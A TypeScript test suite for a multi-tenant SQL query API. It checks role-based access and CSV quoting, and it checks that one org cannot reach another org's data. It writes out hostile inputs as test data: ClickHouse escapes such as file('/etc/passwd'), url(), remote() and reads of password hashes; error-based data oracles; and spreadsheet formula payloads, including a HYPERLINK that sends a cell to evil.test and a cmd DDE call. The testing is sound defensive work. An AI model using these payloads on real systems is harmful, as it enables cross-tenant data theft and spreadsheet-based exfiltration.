// POST /api/sql over HTTP: org admins and owners query their org's runs (JSON or CSV), everyone else
// gets a 403 (members, viewers) or 404 (other orgs); and one org's admin tries every way we know to
// read another org's spans, feedback, users, keys and sessions: other tables, qualified names, system
// tables, table functions, scalar file and dictionary functions, SETTINGS, UNION, JOIN, IN, EXISTS,
// scalar subqueries, CTEs shadowing the scoped tables, and error messages as an oracle.
import assert from "node:assert/strict";
import fs from "node:fs";
import os from "node:os";
import path from "node:path";
import { after, before, describe, test } from "node:test";
import { insertSpans } from "@promptmetrics/clickhouse";
import {
  invitedMember,
  openTestStore,
  signedUp,
  startApi,
  type Client,
  type Reply,
  type TestApi,
  type TestStore,
} from "./accounts-harness.ts";
import { llmRun } from "./runs-fixtures.ts";

let db: TestStore;
let api: TestApi;
let alice: Client;
let adam: Client;
let carol: Client;
let victor: Client;
let bob: Client;
let orgA: string;
let orgB: string;
let pA: string;
let pA2: string;
let pB: string;
let bobUserId: string;

const SECRET = "SECRET-B";

before(async () => {
  db = await openTestStore();
  api = await startApi({ store: db.store, sqlMaxRows: 1000 });
  const a = await signedUp(api, "alice@example.com");
  alice = a.client;
  orgA = a.me.orgs[0].id;
  pA = a.me.projects[0].id;
  pA2 = (await alice.post("/api/projects", { orgId: orgA, name: "Second" })).body.id;
  adam = await invitedMember(api, alice, orgA, "adam@example.com", "admin");
  carol = await invitedMember(api, alice, orgA, "carol@example.com", "member");
  victor = await invitedMember(api, alice, orgA, "victor@example.com", "viewer");
  const b = await signedUp(api, "bob@example.com");
  bob = b.client;
  orgB = b.me.orgs[0].id;
  pB = b.me.projects[0].id;
  bobUserId = b.me.user.id;
  // Bob's org has keys and tokens too: their hashes must stay out of reach.
  await bob.post(`/api/projects/${pB}/ingest-keys`, { name: "prod" });
  await bob.post("/api/tokens", { name: "cli" });

  const runsA = [1, 2, 3].map((i) => llmRun(pA, { input_text: `alpha ${i}`, user_id: `a-user-${i}` }));
  const runsB = [1, 2].map((i) =>
    llmRun(pB, { input_text: `${SECRET} prompt ${i}`, output_text: `${SECRET} answer`, user_id: `${SECRET}-user` }),
  );
  await insertSpans(db.store, { rows: [...runsA, llmRun(pA2, { input_text: "second project" }), ...runsB] });
  await alice.post(`/api/runs/${runsA[0]!.trace_id}-${runsA[0]!.span_id}/rate`, { rating: 4 });
  await bob.post(`/api/runs/${runsB[0]!.trace_id}-${runsB[0]!.span_id}/feedback`, { text: `${SECRET} feedback`, success: false });
});
after(async () => {
  await api.close();
  await db.close();
});

const sql = (client: Client, body: Record<string, unknown>) => client.post("/api/sql", body);

/** Nothing of org B, and no password hash or key hash, in what the caller got back. */
function assertNoLeak(reply: Reply, what: string): void {
  const text = JSON.stringify(reply.body);
  for (const needle of [SECRET, pB, orgB, bobUserId, "bob@example.com", "scrypt$"])
    assert.ok(!text.includes(needle), `${what} leaked ${needle}: ${text.slice(0, 400)}`);
}

describe("who may query", () => {
  test("an owner queries every project of the org, and only those", async () => {
    const reply = await sql(alice, {
      orgId: orgA,
      query: "SELECT project_id, count() AS runs FROM llm_runs GROUP BY project_id ORDER BY runs DESC",
    });
    assert.equal(reply.status, 200, JSON.stringify(reply.body));
    assert.deepEqual(reply.body.columns, [
      { name: "project_id", type: "LowCardinality(String)" },
      { name: "runs", type: "UInt64" },
    ]);
    assert.deepEqual(reply.body.rows, [
      [pA, 3],
      [pA2, 1],
    ]);
    assert.equal(reply.body.rowCount, 2);
    assert.equal(reply.body.truncated, false);
    assert.equal(typeof reply.body.elapsedMs, "number");
  });

  test("an admin may too, and a projectId narrows the query to that project", async () => {
    const reply = await sql(adam, { projectId: pA2, query: "SELECT input_text FROM llm_runs" });
    assert.equal(reply.status, 200, JSON.stringify(reply.body));
    assert.deepEqual(reply.body.rows, [["second project"]]);
  });

  test("members and viewers get a 403; another org gets a 404; no caller a 401", async () => {
    const query = "SELECT count() FROM llm_runs";
    assert.equal((await sql(carol, { orgId: orgA, query })).status, 403);
    assert.equal((await sql(victor, { orgId: orgA, query })).status, 403);
    assert.equal((await sql(carol, { projectId: pA, query })).status, 403);
    assert.equal((await sql(bob, { orgId: orgA, query })).status, 404);
    assert.equal((await sql(bob, { projectId: pA, query })).status, 404);
    assert.equal((await sql(api.browser(), { orgId: orgA, query })).status, 401);
    const own = await sql(bob, { orgId: orgB, query: "SELECT count() FROM llm_runs" });
    assert.deepEqual(own.body.rows, [[2]]);
  });

  test("bad requests are 400s naming the field", async () => {
    const cases: Array<[Record<string, unknown>, string]> = [
      [{ query: "SELECT 1" }, "orgId"],
      [{ orgId: orgA, projectId: pA, query: "SELECT 1" }, "orgId"],
      [{ orgId: orgA }, "query"],
      [{ orgId: orgA, query: "   " }, "query"],
      [{ orgId: orgA, query: "SELECT 1", format: "xml" }, "format"],
      [{ orgId: orgA, query: "SELECT 1", timeout: 5 }, "timeout"],
      [{ orgId: orgA, query: "SELEC 1" }, "query"],
      [{ orgId: orgA, query: "SELECT no_such_column FROM llm_runs" }, "query"],
    ];
    for (const [body, field] of cases) {
      const reply = await sql(alice, body);
      assert.equal(reply.status, 400, JSON.stringify(body));
      assert.equal(reply.body.error.field, field, JSON.stringify(body));
    }
  });
});

describe("results", () => {
  test("CSV has a header row and RFC 4180 quoting", async () => {
    const res = await fetch(`${api.url}/api/sql`, {
      method: "POST",
      headers: { "content-type": "application/json", origin: api.url, cookie: [...alice.cookies].map(([k, v]) => `${k}=${v}`).join("; ") },
      body: JSON.stringify({
        orgId: orgA,
        format: "csv",
        query: "SELECT 'a,b' AS text, 'say \"hi\"' AS quoted, 'x\ny' AS lines, NULL AS nothing, [1, 2] AS list",
      }),
    });
    assert.equal(res.status, 200);
    assert.equal(res.headers.get("content-type"), "text/csv; charset=utf-8");
    assert.equal(res.headers.get("promptmetrics-truncated"), "false");
    assert.equal(await res.text(), 'text,quoted,lines,nothing,list\r\n"a,b","say ""hi""","x\ny",,"[1,2]"\r\n');
  });

  test("CSV neutralises values a spreadsheet would run as formulas; numbers stay numbers", async () => {
    const res = await fetch(`${api.url}/api/sql`, {
      method: "POST",
      headers: { "content-type": "application/json", origin: api.url, cookie: [...alice.cookies].map(([k, v]) => `${k}=${v}`).join("; ") },
      body: JSON.stringify({
        orgId: orgA,
        format: "csv",
        query:
          "SELECT '=HYPERLINK(\"http://evil.test/?\"&A2,\"x\")' AS link, '+cmd|'' /C calc''!A0' AS cmd, '@SUM(A1)' AS at, toDecimal64(-1.5, 2) AS cost",
      }),
    });
    assert.equal(res.status, 200);
    assert.equal(
      await res.text(),
      `link,cmd,at,cost\r\n"'=HYPERLINK(""http://evil.test/?""&A2,""x"")","'+cmd|' /C calc'!A0","'@SUM(A1)",-1.5\r\n`,
    );
  });

  test("more rows than the cap come back cut, and say so", async () => {
    const reply = await sql(alice, { orgId: orgA, query: "SELECT number FROM numbers(1500)" });
    assert.equal(reply.status, 200);
    assert.equal(reply.body.rowCount, 1000);
    assert.equal(reply.body.rows.length, 1000);
    assert.equal(reply.body.truncated, true);
  });

  test("the examples of docs/sql-tables.md run", async () => {
    const doc = fs.readFileSync(new URL("../../docs/sql-tables.md", import.meta.url), "utf8");
    const examples = [...doc.matchAll(/```sql\n([\s\S]*?)```/g), ...doc.matchAll(/"query": "([^"]+)"/g)].map((match) => match[1]!);
    assert.equal(examples.length, 4);
    for (const query of examples) {
      const reply = await sql(alice, { orgId: orgA, query });
      assert.equal(reply.status, 200, `${query}: ${JSON.stringify(reply.body)}`);
    }
    const byModel = await sql(alice, { orgId: orgA, query: examples[3]! });
    assert.deepEqual(byModel.body.rows, [["gpt-4o", 4, "0.003"]]);
  });

  test("the scoped tables: feedback, rollups and projects hold only the caller's projects", async () => {
    const feedback = await sql(alice, { orgId: orgA, query: "SELECT project_id, rating, comment FROM feedback" });
    assert.deepEqual(feedback.body.rows, [[pA, 4, ""]]);
    const rollup = await sql(alice, {
      orgId: orgA,
      query: "SELECT project_id, sum(requests) FROM rollup_model_hourly GROUP BY project_id ORDER BY project_id",
    });
    assert.deepEqual(
      rollup.body.rows,
      [
        [pA, 3],
        [pA2, 1],
      ].sort((x, y) => String(x[0]).localeCompare(String(y[0]))),
    );
    const users = await sql(alice, { orgId: orgA, query: "SELECT count(), uniqExact(user_id) FROM rollup_user_hourly" });
    assert.deepEqual(users.body.rows, [[4, 4]]);
    const projects = await sql(alice, { orgId: orgA, query: "SELECT name FROM projects ORDER BY name" });
    assert.deepEqual(projects.body.rows, [["Default project"], ["Second"]]);
    const spans = await sql(alice, { orgId: orgA, query: "SELECT count() FROM spans" });
    assert.deepEqual(spans.body.rows, [[4]]);
  });
});

describe("another org's data cannot be reached", () => {
  const refused: Array<[string, string]> = [
    ["users", "SELECT email, password_hash FROM users"],
    ["api keys", "SELECT secret_hash FROM api_keys"],
    ["sessions", "SELECT * FROM sessions"],
    ["memberships", "SELECT * FROM memberships"],
    ["orgs", "SELECT * FROM orgs"],
    ["invitations", "SELECT * FROM invitations"],
    ["provider keys", "SELECT * FROM provider_keys"],
    ["a materialized view", "SELECT * FROM rollup_model_hourly_mv"],
    ["a qualified table", "SELECT * FROM default.spans"],
    ["a quoted qualified table", 'SELECT * FROM "default"."spans"'],
    ["system tables", "SELECT * FROM system.tables"],
    ["system databases", "SELECT name FROM system.databases"],
    ["information schema", "SELECT * FROM information_schema.tables"],
    ["file()", "SELECT * FROM file('/etc/passwd', 'LineAsString')"],
    ["scalar file()", "SELECT file('/etc/hostname')"],
    ["url()", "SELECT * FROM url('http://127.0.0.1:1/', 'LineAsString')"],
    ["remote()", "SELECT * FROM remote('127.0.0.1', default.spans)"],
    ["merge()", "SELECT * FROM merge(currentDatabase(), '^spans$')"],
    ["s3()", "SELECT * FROM s3('http://127.0.0.1:1/x.csv')"],
    ["view()", "SELECT * FROM view(SELECT * FROM users)"],
    ["dictGet", "SELECT dictGet('users', 'email', 1)"],
    ["joinGet", "SELECT joinGet('api_keys', 'secret_hash', 'x')"],
    ["APPLY(file)", "SELECT COLUMNS('input_text') APPLY(file) FROM spans"],
    ["SETTINGS", "SELECT * FROM spans SETTINGS max_execution_time = 0"],
    ["SETTINGS in a subquery", "SELECT * FROM (SELECT * FROM spans SETTINGS additional_table_filters = {'spans': '1'})"],
    ["UNION with users", "SELECT email FROM users UNION ALL SELECT model FROM llm_runs"],
    ["JOIN users", "SELECT * FROM llm_runs AS r JOIN users AS u ON u.id = r.user_id"],
    ["IN a table", "SELECT count() FROM llm_runs WHERE user_id IN users"],
    ["IN a qualified table", "SELECT count() FROM llm_runs WHERE project_id GLOBAL IN default.projects"],
    ["a subquery on users", "SELECT count() FROM llm_runs WHERE user_id IN (SELECT id FROM users)"],
    ["EXISTS on sessions", "SELECT EXISTS (SELECT 1 FROM sessions)"],
    ["a scalar subquery on api_keys", "SELECT (SELECT any(secret_hash) FROM api_keys)"],
    ["a CTE over users", "WITH x AS (SELECT * FROM users) SELECT * FROM x"],
    // The names of tables are reserved, even for a query's own CTE.
    ["a CTE named like a hidden table", "WITH users AS (SELECT 1 AS n) SELECT sum(n) FROM users"],
    ["two statements", "SELECT 1; SELECT * FROM users"],
    ["DDL", "DROP TABLE spans"],
    ["INSERT", "INSERT INTO feedback (project_id) VALUES ('x')"],
    ["SHOW", "SHOW TABLES"],
    ["EXPLAIN", "EXPLAIN SELECT * FROM users"],
    ["a name with a line break", "SELECT 1 AS `x)\n   Identifier users`"],
  ];
  for (const [what, query] of refused) {
    test(`${what} is refused with a 400 naming query`, async () => {
      const reply = await sql(alice, { orgId: orgA, query });
      assert.equal(reply.status, 400, `${what}: ${JSON.stringify(reply.body)}`);
      assert.equal(reply.body.error.field, "query");
      assertNoLeak(reply, what);
    });
  }

  test("INTO OUTFILE writes nothing", async () => {
    const target = path.join(os.tmpdir(), `pm-sql-outfile-${process.pid}.csv`);
    const reply = await sql(alice, { orgId: orgA, query: `SELECT * FROM spans INTO OUTFILE '${target}' FORMAT CSV` });
    assert.equal(reply.status, 400);
    assert.equal(fs.existsSync(target), false);
  });

  // Queries that run: each must see org A's rows only, whatever tricks it plays.
  const scoped: Array<[string, string, unknown[][]]> = [
    // Fails with the text in its message on any row of org B; succeeds on every row of org A.
    [
      "an error message as an oracle",
      `SELECT count() FROM spans WHERE toUInt8(if(input_text LIKE '${SECRET}%', input_text, '1')) = 1`,
      [[4]],
    ],
    ["throwIf as an oracle", `SELECT count() FROM llm_runs WHERE throwIf(input_text LIKE '%${SECRET}%') = 0`, [[4]]],
    ["throwIf on feedback", `SELECT count() FROM feedback WHERE throwIf(comment LIKE '%${SECRET}%') = 0`, [[1]]],
    ["a CTE re-binding spans to itself", "WITH spans AS (SELECT * FROM spans) SELECT count() FROM spans", [[4]]],
    ["a recursive CTE named like the table", "WITH RECURSIVE llm_runs AS (SELECT * FROM llm_runs) SELECT count() FROM llm_runs", [[4]]],
    [
      "UNION ALL of the scoped tables",
      "SELECT count() FROM (SELECT project_id FROM spans UNION ALL SELECT project_id FROM feedback UNION ALL SELECT project_id FROM llm_runs)",
      [[9]],
    ],
    ["a self JOIN", "SELECT count() FROM llm_runs AS a JOIN spans AS b ON a.span_id = b.span_id", [[4]]],
    ["a scalar subquery", `SELECT (SELECT count() FROM llm_runs WHERE input_text LIKE '%${SECRET}%')`, [[0]]],
    ["EXISTS", `SELECT EXISTS (SELECT 1 FROM spans WHERE input_text LIKE '%${SECRET}%')`, [[0]]],
    [
      "IN a subquery",
      `SELECT count() FROM llm_runs WHERE project_id IN (SELECT project_id FROM spans WHERE input_text LIKE '%${SECRET}%')`,
      [[0]],
    ],
    ["a trivial count", "SELECT count() FROM llm_runs", [[4]]],
    ["min/max over the sort key", "SELECT count(), uniqExact(project_id) FROM spans", [[4, 2]]],
    ["an alias named like a hidden table", "SELECT uniq(user_id) AS users FROM llm_runs ORDER BY users", [[4]]],
    ["every row, every column", `SELECT count() FROM (SELECT * FROM spans) WHERE position(toString(tuple(*)), '${SECRET}') > 0`, [[0]]],
  ];
  for (const [what, query, rows] of scoped) {
    test(`${what} sees only the org's own rows`, async () => {
      const reply = await sql(alice, { orgId: orgA, query });
      assert.equal(reply.status, 200, `${what}: ${JSON.stringify(reply.body)}`);
      assert.deepEqual(reply.body.rows, rows, what);
      assertNoLeak(reply, what);
    });
  }

  test("a project of another org cannot be named into scope", async () => {
    const reply = await sql(alice, { orgId: orgA, query: `SELECT count() FROM llm_runs WHERE project_id = '${pB}'` });
    assert.deepEqual(reply.body.rows, [[0]]);
  });
});
